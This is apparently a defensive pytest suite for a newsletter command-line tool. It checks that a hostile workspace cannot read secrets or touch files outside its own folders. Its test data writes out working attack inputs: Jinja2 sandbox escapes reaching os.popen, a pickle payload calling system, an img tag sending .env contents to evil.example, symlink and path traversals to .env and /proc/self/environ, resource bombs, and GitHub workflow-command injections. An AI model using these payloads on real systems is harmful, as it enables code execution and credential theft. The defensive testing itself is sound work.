"""A workspace that somebody else made: whatever stands in it, a command reads and writes nothing outside its own folders."""

import email
import email.policy
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from newsletter.cli import run
from newsletter.render.email import EmailImage

SECRET = "STIBEE_API_KEY=sk-very-secret-0123456789"
PUBLICATION = """\
name: 남의 뉴스레터
language: ko
sender: {name: 남, email: news@example.com}
layout: evil
esp: stibee
footer: {company: 남, address: 서울, phone: 02-120, email: a@example.com}
"""
ISSUE = "date: 2024-01-31\nheadline: {title: 제목, body: 글}\n"
MJML = '<mjml lang="ko"><mj-head><mj-title>x</mj-title></mj-head><mj-body>\n%s\n</mj-body></mjml>'
TEXT = "<mj-section><mj-column><mj-text>%s</mj-text></mj-column></mj-section>"

COMMANDS = (
    ("render", "--format", "html,text,mjml,eml"),
    ("check",),
    ("export", "x", "--esp", "stibee"),
    ("export", "x", "--esp", "ghost"),
    ("push", "x", "--esp", "stibee", "--dry-run"),
)

Attack = Callable[[Path], None]


def layout(body: str, **files: str) -> Attack:
    """Put a layout into the workspace whose body is ``body``."""

    def plant(folder: Path) -> None:
        for name, text in {
            "email.mjml.j2": MJML % (TEXT % body),
            "email.txt.j2": "{{ subject }}",
            "style.css": "",
            **files,
        }.items():
            (folder / "layouts" / "evil" / name).write_text(text, "utf-8")

    return plant


def issue(more: str) -> Attack:
    """Put ``more`` into the issue."""

    def plant(folder: Path) -> None:
        (folder / "issues" / "x.yaml").write_text(ISSUE + more, "utf-8")

    return plant


def link(name: str, target: str) -> Attack:
    """Put a link into the workspace in the place of what is there."""

    def plant(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return plant


def write(name: str, text: str) -> Attack:
    """Put a file into the workspace."""

    def plant(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, "utf-8")

    return plant


def publication(more: str) -> Attack:
    """Put ``more`` into the publication."""

    def plant(folder: Path) -> None:
        (folder / "issues" / "publication.yaml").write_text(f"{PUBLICATION}{more}\n", "utf-8")

    return plant


def write_bytes(name: bytes, data: bytes) -> Attack:
    """Put a file into the workspace whose name may be no text."""

    def plant(folder: Path) -> None:
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_bytes(data)

    return plant


def both(*attacks: Attack) -> Attack:
    """Do one after the other."""

    def plant(folder: Path) -> None:
        for attack in attacks:
            attack(folder)

    return plant


ATTACKS: dict[str, Attack] = {
    "a pickle": layout("""{{ issue.parse_raw("cposix\\nsystem\\n(S'touch CANARY'\\ntR.", proto="pickle", allow_pickle=true) }}"""),
    "a pickle from a file": layout('{{ issue.parse_file("../outside.pickle", proto="pickle", allow_pickle=true) }}'),
    "the filters' own state": layout('{{ _context.images.folder.joinpath("/tmp/x").write_text("x") }}'),
    "the mail's own state by its key": layout('{{ self._TemplateReference__context["the mail"] }}'),
    "globals of a function": layout("{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}"),
    "globals of a macro": layout("{% macro m() %}{% endmacro %}{{ m.__call__.__globals__ }}"),
    "subclasses": layout("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "attr": layout("{{ issue|attr('parse_raw') }}"),
    "format": layout("{{ '{0.__class__.__init__.__globals__}'.format(issue) }}"),
    "map by attribute": layout("{{ [issue]|map(attribute='__class__')|join }}"),
    "an include of the environment": layout('{% include "/proc/self/environ" %}'),
    "an include of .env": layout('<img alt="" src="https://evil.example/?k={% include "../../.env" %}">'),
    "an include through a link": both(layout('{% include "parts/x.mjml.j2" %}'), link("layouts/evil/parts/x.mjml.j2", "../../../.env")),
    "an import": layout('{% import "../../.env" as x %}{{ x }}'),
    "mj-include": layout('</mj-text></mj-column></mj-section><mj-include path="../../.env" /><mj-section><mj-column><mj-text>'),
    "an import in CSS": layout("x", **{"style.css": "@import url('file:///etc/passwd'); a { background: url(../../.env) }"}),
    "a style sheet that is a link": both(layout("x"), link("layouts/evil/style.css", "../../.env")),
    "strings that are a link": both(layout("{{ t }}"), link("layouts/strings/ko.yaml", "../../.env")),
    "settings that are a link": link("layouts/evil/layout.yaml", "../../.env"),
    "an endless file": link("layouts/evil/style.css", "/dev/zero"),
    "a loop": layout("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"),
    "a bomb": layout("{{ 'a' * 10**10 }}"),
    "a doubling text": layout("{% set n = namespace(s='ab') %}{% for i in range(60) %}{% set n.s = n.s ~ n.s %}{% endfor %}{{ n.s }}"),
    "a layout by a path": issue("layout: ../../elsewhere/evil\n"),
    "a layout by an absolute path": issue("layout: /tmp/evil\n"),
    "a picture that is .env": issue("closing: '![x](../.env)'\n"),
    "a headline's picture that is .env": write("issues/x.yaml", "headline: {title: 제목, image: {src: ../.env, alt: x}}\n"),
    "a picture that is a link": both(issue("closing: '![x](images/a.png)'\n"), link("issues/images/a.png", "../../.env")),
    "a picture that leads out": both(issue("closing: '![x](images/a.png)'\n"), link("issues/images/a.png", "../../../outside.txt")),
    "an issue that is a link": link("issues/x.yaml", "../.env"),
    "an issue that is the environment": link("issues/x.yaml", "/proc/self/environ"),
    "an issue that is another file's YAML": link("issues/x.yaml", "../../outside.yaml"),
    "an issue without end": link("issues/x.yaml", "/dev/zero"),
    "a publication that is a link": link("issues/publication.yaml", "../.env"),
    "build is a link": link("build", "../elsewhere"),
    "a folder of build is a link": link("build/x", "../../elsewhere"),
    "an output is a link": link("build/x/email.txt", "../../../outside.txt"),
    "an export is a link": link("build/x/stibee", "../../../elsewhere"),
    "the lock is a link": link("build/x/drafts.lock", "../../../outside.txt"),
    "drafts.json is a link": link("build/x/drafts.json", "../../../outside.txt"),
    "addresses of services": write(".env", f"{SECRET}\nSTIBEE_API_URL=http://127.0.0.1:9/\nGHOST_URL=http://127.0.0.1:9/\n"),
    "a draft's number that is a path": write("build/x/drafts.json", '{"stibee": {"id": "1/send?x=", "state": "created"}}'),
    "a sheet that is nested without end": layout("x", **{"style.css": "a{" * 5000}),
    "a style that is nested without end": layout("<b style='color:" + "(" * 5000 + "'>x</b>"),
    "a style that a mail's reader cannot be shown": both(layout("<b style='{{ issue.extra.x }}'>x</b>"), issue(f"extra: {{x: '{'(' * 5000}'}}\n")),
    "a picture that is cut off": both(issue("closing: '![x](images/a.png)'\n"), write_bytes(b"issues/images/a.png", b"RIFF\xff\xff\xff\xffWEBPVP8X")),
    "a file name that is not UTF-8": write_bytes(b"issues/\xff.yaml", ISSUE.encode()),
}  # fmt: skip


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A workspace of somebody else's, with files of the user's around it."""
    folder = tmp_path / "workspace"
    for name in ("issues/images", "layouts/evil/parts", "layouts/strings"):
        (folder / name).mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "outside.txt").write_text("the user's own words", "utf-8")
    (tmp_path / "outside.yaml").write_text("token: the user's own words\n", "utf-8")
    (folder / ".env").write_text(SECRET, "utf-8")
    (folder / "issues" / "publication.yaml").write_text(PUBLICATION, "utf-8")
    issue("")(folder)
    layout("x")(folder)
    return folder


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_workspace_gets_nothing(
    hostile: Path, name: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    ATTACKS[name](hostile)
    monkeypatch.setenv("NEWSLETTER_TEST_SECRET", "of-the-environment")
    monkeypatch.chdir(hostile)
    codes = [run(list(words)) for words in COMMANDS]
    said = "".join(capfd.readouterr())
    assert set(codes) <= {0, 1, 2, 3, 4}, (codes, said)
    assert "Traceback" not in said
    outside = hostile.parent
    assert (outside / "outside.txt").read_text("utf-8") == "the user's own words"
    assert list((outside / "elsewhere").iterdir()) == []
    assert not list(outside.rglob("CANARY"))
    for text in (said, *map(readable, files_in(hostile / "build"))):
        assert "sk-very-secret" not in text
        assert "of-the-environment" not in text
        assert "the user's own words" not in text


def files_in(folder: Path) -> list[Path]:
    """Every file that was written, but for links and what an attack put there."""
    return [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()] if not folder.is_symlink() else []


def readable(path: Path) -> str:
    """A file's text; of a message, the text of each part."""
    data = path.read_bytes()
    if path.suffix != ".eml":
        return data.decode("utf-8", "replace")
    message = email.message_from_bytes(data, policy=email.policy.default)
    parts = [part.get_payload(decode=True) for part in message.walk() if not part.is_multipart()]
    return "".join(part.decode("utf-8", "replace") for part in parts if isinstance(part, bytes))


def test_what_the_attacks_look_for_would_be_seen(hostile: Path) -> None:
    (hostile / "build").mkdir()
    (hostile / "build" / "email.html").write_text(SECRET)
    assert [SECRET in readable(path) for path in files_in(hostile / "build")] == [True]


ELSEWHERE: dict[str, tuple[Attack, tuple[str, ...]]] = {
    "a source that is another file": (both(write("seeds/x.md", "# x"), publication("sources: [../outside.txt]")), ("draft",)),
    "a source by an absolute path": (publication("sources: [/proc/self/environ]"), ("draft",)),
    "a source that is .env": (link("seeds/x.txt", "../../outside.txt"), ("draft",)),
    "a folder of sources that leads out": (link("seeds", ".."), ("draft",)),
    "a fetched page that is a link": (
        both(link("seeds/a.example-x.html", "../../outside.txt"), publication("sources: ['https://a.example/x']")),
        ("draft",),
    ),
    "the next issue is a link": (link("issues/2024-02-07-next.yaml", "../../elsewhere/x.yaml"), ("new", "next", "--date", "2024-02-07")),
    "a draft is a link": (
        both(link("issues/d.yaml", "../../elsewhere/x.yaml"), write("seeds/x.md", "# 글\n\n## 하나\n\n본문")),
        ("draft", "seeds/x.md", "-o", "issues/d.yaml", "--force"),
    ),
    "a schema is a link": (link("issues/issue.schema.json", "../../outside.txt"), ("schema",)),
    "the first issue is a link": (link("fresh/issues/publication.yaml", "../../../elsewhere/x.yaml"), ("init", "fresh")),
    "a folder of the first issue is a link": (link("fresh/issues", "../../elsewhere"), ("init", "fresh")),
    "an issue that is linked into is a link": (
        both(link("issues/y.yaml", "../../outside.yaml"), write("seeds/x.md", "---\ntitle: 글\nurl: https://a.kr\n---\n글")),
        ("link", "seeds/x.md", "--to", "y", "--topic", "1"),
    ),
    "fixes of an issue that is a link": (link("issues/x.yaml", "../../outside.yaml"), ("check", "--fix")),
    "proxies and certificates": (
        write(".env", "HTTPS_PROXY=http://127.0.0.1:9\nSSL_CERT_FILE=x\nPYTHONPATH=.\nPATH=.\nNEWSLETTER_CACHE_DIR=../elsewhere\n"),
        ("push", "x", "--esp", "ghost", "--dry-run"),
    ),
    "a key by another name": (write(".env", "STIBEE_ACCESS_TOKEN=${NEWSLETTER_TEST_SECRET}\n"), ("push", "x", "--esp", "stibee", "--dry-run")),
    "an alias bomb": (issue("extra: {a: &a [x, x], b: &b [*a, *a], c: [*b, *b]}\n"), ("check",)),
    "an alias bomb in a layout": (layout("x", **{"layout.yaml": "degrades: {a: &a [x], b: *a}\n"}), ("check",)),
    "an endless number": (issue(f"number: {'9' * 5000}\n"), ("check",)),
    "a picture beyond the folder by other signs": (
        issue("closing: '![x](images/．．/．．/.env) ![y](images%2f..%2f..%2f.env) ![z](images\\..\\..\\.env)'\n"),
        ("render", "--format", "html,eml"),
    ),
    "a command to GitHub in an excerpt": (
        issue("topics:\n- title: 가\n  body: |\n    가\n\n    ::stop-commands::x TODO ##[stop-commands]x\n"),
        ("check",),
    ),
    "a command to GitHub in a message": (
        issue("closing: '${::error::x}'\nsubject: \"::set-output name=a::b\"\n::stop-commands::x: 1\n"),
        ("check", "--format", "github"),
    ),
    "a command to GitHub in a file's name": (write("issues/\n::stop-commands::x\x9b31m.yaml", "a: 1\n"), ("check", "--format", "github")),
    "an escape sequence in a file's name": (write("issues/\x1b]0;x\x07\x9b31m.yaml", f"{ISSUE}closing: TODO\n"), ("check", "--format", "json")),
}  # fmt: skip
"""Attacks on other commands, each with the command."""


@pytest.mark.parametrize("name", ELSEWHERE)
def test_other_commands_reach_nothing_outside_either(
    hostile: Path, name: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    attack, command = ELSEWHERE[name]
    attack(hostile)
    monkeypatch.setenv("NEWSLETTER_TEST_SECRET", "of-the-environment")
    monkeypatch.chdir(hostile)
    before = dict(os.environ)
    code = run(list(command))
    said = "".join(capfd.readouterr())
    assert code in {0, 1, 2, 3, 4}, (code, said)
    assert dict(os.environ) == before
    outside = hostile.parent
    assert (outside / "outside.txt").read_text("utf-8") == "the user's own words"
    assert (outside / "outside.yaml").read_text("utf-8") == "token: the user's own words\n"
    assert list((outside / "elsewhere").iterdir()) == []
    for text in (said, *map(readable, files_in(hostile / "build")), *map(readable, files_in(hostile / "issues"))):
        assert "the user's own words" not in text
        assert "of-the-environment" not in text
        assert "NEWSLETTER_TEST_SECRET=" not in text
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", said)
    commands = [
        line for line in said.splitlines() if line.lstrip().startswith("::") or ("##[" in line and not line.startswith("::"))
    ]
    assert all(re.match(r"::(?:error|warning|notice) file=[^:,]*,line=\d+,col=\d+,title=[\w-]+::", line) for line in commands), (
        commands
    )


@pytest.mark.parametrize("module", ["yaml", "jinja2", "typing", "gc", "sitecustomize", "click", "io", "pydantic", "encodings"])
def test_no_module_of_a_workspace_is_run(hostile: Path, module: str) -> None:
    """`python -m` looks for modules in the current folder first; what Python itself imports before any program can is its own affair."""
    (hostile / f"{module}.py").write_text("open('../CANARY', 'w')", "utf-8")
    for name in ("conftest.py", "pytest.ini", "setup.cfg"):
        (hostile / name).write_text("open('../CANARY', 'w')", "utf-8")
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])}
    program = [sys.executable, "-m", "newsletter", "list", "esps"]
    ran = subprocess.run(program, cwd=hostile, env=environment, capture_output=True, text=True, check=False)
    assert not (hostile.parent / "CANARY").exists()
    assert ran.returncode == 0, ran.stderr


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
def test_a_picture_is_read_only_from_its_root_and_by_its_bytes(tmp_path: Path) -> None:
    (tmp_path / "issues").mkdir()
    (tmp_path / "issues" / "no.png").write_text(SECRET)
    (tmp_path / "out.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"x" * 20)
    (tmp_path / "issues" / "link.png").symlink_to(tmp_path / "out.png")
    (tmp_path / "issues" / "yes.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"x" * 20)
    read = {
        name: EmailImage(f"images/{name}", tmp_path / "issues" / name, None, None, tmp_path / "issues").read() is not None
        for name in ("no.png", "link.png", "yes.png", "missing.png")
    }
    assert read == {"no.png": False, "link.png": False, "yes.png": True, "missing.png": False}
